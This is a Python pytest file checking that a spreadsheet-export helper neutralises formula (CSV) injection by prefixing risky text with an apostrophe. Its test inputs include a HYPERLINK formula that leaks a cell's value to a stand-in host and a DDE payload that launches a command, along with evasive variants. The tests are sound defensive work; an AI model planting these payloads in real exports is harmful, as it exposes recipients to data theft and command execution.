from datetime import date
from decimal import Decimal

import pytest

from banso.pipeline.spreadsheet import cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"見積")',
        "+81 3 0000 0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "  =1+1",
        "\u3000=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
    ],
)
def test_a_text_that_a_spreadsheet_would_run_is_made_plain_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "株式会社=山田", "A-1", "(株)東京", "'=1", "1-2", "東京\n=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-12.5, -12.5),
        (-3.0, -3),
        (Decimal("-1200.00"), -1200),
        (Decimal("0.50"), Decimal("0.50")),
        (0, 0),
        (None, None),
        (date(2026, 10, 1), "2026-10-01"),
    ],
)
def test_numbers_and_dates_are_no_texts(value: object, written: object) -> None:
    assert cell(value) == written
